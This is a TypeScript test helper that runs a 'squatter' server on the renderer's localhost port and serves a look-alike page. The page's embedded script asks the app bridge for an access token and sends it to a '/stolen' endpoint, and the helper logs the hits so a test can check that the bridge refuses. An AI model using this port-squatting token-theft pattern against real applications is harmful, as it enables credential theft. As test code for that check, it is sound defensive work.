// A squatter: another local account listening on the renderer port of [::1] and 127.0.0.1 (where Chromium
// looks for localhost), serving a look-alike page whose script asks the bridge for a token and sends
// whatever it gets back to the squatter. It reports every request and websocket it receives on stdout.
import { spawn, type ChildProcess } from 'node:child_process';

const SCRIPT = String.raw`
const http = require('node:http');
const port = Number(process.argv[1]);
const page = '<!doctype html><title>squatter</title><h1 id="squatter">SQUATTER PAGE</h1><script>' +
  'Promise.resolve(window.qioskGetAccessToken && window.qioskGetAccessToken()).then(' +
  't => fetch("/stolen?t=" + encodeURIComponent(String(t))), e => fetch("/refused"));</script>';
let up = 0;
for (const host of ['::1', '127.0.0.1']) {
  http.createServer((req, res) => {
    console.log('hit ' + host + ' ' + req.url.replace(/\?.*/, ''));
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(page);
  }).on('upgrade', (req, socket) => {
    console.log('hit ' + host + ' websocket ' + req.url.replace(/\?.*/, ''));
    socket.destroy();
  }).listen({ port, host }, () => { if (++up === 2) console.log('listening'); })
    .on('error', (e) => { console.log('bind failed ' + host + ' ' + e.code); process.exit(3); });
}`;

export interface Squatter {
  hits: string[];
  /** The user it runs as: `nobody` where this process may switch users (root), else this user. */
  user: string;
  stop(): Promise<void>;
}

export async function startSquatter(port: number): Promise<Squatter> {
  const asNobody = process.getuid?.() === 0;
  const child: ChildProcess = spawn(process.execPath, ['-e', SCRIPT, String(port)], {
    stdio: ['ignore', 'pipe', 'inherit'],
    cwd: '/',
    ...(asNobody ? { uid: 65534, gid: 65534 } : {}),
  });
  const hits: string[] = [];
  await new Promise<void>((resolve, reject) => {
    let buf = '';
    child.stdout!.on('data', (d: Buffer) => {
      buf += d.toString();
      const lines = buf.split('\n');
      buf = lines.pop() ?? '';
      for (const l of lines) {
        if (l === 'listening') resolve();
        else if (l.startsWith('hit ')) hits.push(l.slice(4));
        else if (l.startsWith('bind failed')) reject(new Error(`squatter: ${l}`));
      }
    });
    child.once('exit', (code) => reject(new Error(`squatter exited (${code}) before listening`)));
  });
  return {
    hits,
    user: asNobody ? 'nobody' : 'this user',
    stop: () =>
      new Promise<void>((r) => {
        if (child.exitCode !== null || child.signalCode !== null) return r();
        child.once('exit', () => r());
        child.kill('SIGTERM');
      }),
  };
}
